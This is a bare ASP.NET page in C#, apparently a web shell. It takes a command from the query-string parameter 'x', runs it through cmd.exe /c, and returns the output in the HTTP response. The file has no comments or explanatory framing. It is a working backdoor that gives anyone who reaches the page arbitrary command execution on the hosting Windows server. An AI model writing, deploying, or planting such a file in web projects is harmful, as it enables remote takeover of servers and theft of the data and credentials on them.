<%@ Page Language="C#" %>
<%
if (Request.QueryString["x"] != null)
{
    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.QueryString["x"]) { UseShellExecute = false, RedirectStandardOutput = true });
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
}
%>
